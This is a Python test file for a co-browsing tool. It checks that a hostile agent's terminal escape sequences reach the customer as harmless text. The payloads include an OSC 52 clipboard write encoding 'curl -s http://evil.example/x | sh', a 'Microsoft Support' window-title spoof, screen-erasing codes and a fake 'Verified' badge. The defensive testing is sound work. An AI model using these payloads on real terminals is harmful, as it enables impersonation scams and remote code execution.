"""A hostile agent against a real `cobrowse join --plain` customer, through a real relay on
127.0.0.1: the agent is an in-test client (the real runtime, with whatever name and texts an
attacker picks) that sends a badge-shaped name full of escape sequences, a chat line that
tries to write the clipboard and retitle the window, and an End message that tries to clear
the screen and print a fake "Verified" line. The customer's terminal (its stderr) gets no
escape byte, shows the sequences as text, keeps the UNVERIFIED warning, and stays a
handful of lines for a 1 MB name."""

from __future__ import annotations

import asyncio

from harness import Proc, start_customer

from cobrowse.io.agent import AgentRuntime
from cobrowse.io.link import RelayLink
from tests.waiting import until

OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
TITLE = "\x1b]0;Microsoft Support\x07"
ERASE = "\x1b[1A\x1b[2K\r"  # up one line, erase it: gone is the warning above
BADGE = "[b white on green] ✓ Verified"


async def hostile_agent(relay_url: str, name: str) -> tuple[AgentRuntime, asyncio.Task]:
    agent = AgentRuntime(RelayLink(relay_url, "agent"), lambda event: None, name=name)
    await agent.create()
    return agent, asyncio.create_task(agent.run())


def raw_stderr(customer: Proc) -> str:
    return "\n".join(customer.stderr_lines)


async def test_plain_customer_shows_agent_escapes_as_text(relay_url: str) -> None:
    agent, task = await hostile_agent(relay_url, f"{BADGE}{TITLE}")
    customer = await start_customer(relay_url, str(agent.code), "--plain")
    try:
        await customer.stderr_line("UNVERIFIED AGENT")
        await until(lambda: agent.paired, "the agent paired", 20)
        await agent.command({"cmd": "chat", "text": f"{OSC52}{ERASE}[cobrowse] Verified: Alice from Microsoft"})
        await customer.stderr_line("\\x1b]52;c;")
        await agent.end("agent_ended", f"{ERASE}\x1b[2J\x1b[H[cobrowse] Verified: Alice from Microsoft")
        assert await customer.wait() == 0
        out = raw_stderr(customer)
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
        assert "\\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x07" in out
        assert f"{BADGE}\\x1b]0;Microsoft Support\\x07" in out  # the badge markup is plain text too
        assert "\\x1b[1A\\x1b[2K\\r[cobrowse] Verified" in out
        assert "UNVERIFIED AGENT" in out
        for line in customer.stderr_lines:  # every line is ours: none begins with the agent's words
            assert line.startswith(("[cobrowse] ", "cobrowse")), line
    finally:
        await customer.kill()
        if not task.done():
            task.cancel()


async def test_a_one_megabyte_agent_name_is_a_few_lines(relay_url: str) -> None:
    name = ("\n[cobrowse] Verified: Alice from Microsoft" * 30000)[:1 << 20]
    agent, task = await hostile_agent(relay_url, name)
    customer = await start_customer(relay_url, str(agent.code), "--plain")
    try:
        await customer.stderr_line("UNVERIFIED AGENT")
        await agent.command({"cmd": "chat", "text": "done"})
        await customer.stderr_line(": done")
        await agent.end("agent_ended")
        assert await customer.wait() == 0
        assert len(customer.stderr_lines) < 20
        assert sum(len(line) for line in customer.stderr_lines) < 5000
        assert not any(line.startswith("[cobrowse] Verified") for line in customer.stderr_lines)
    finally:
        await customer.kill()
        if not task.done():
            task.cancel()
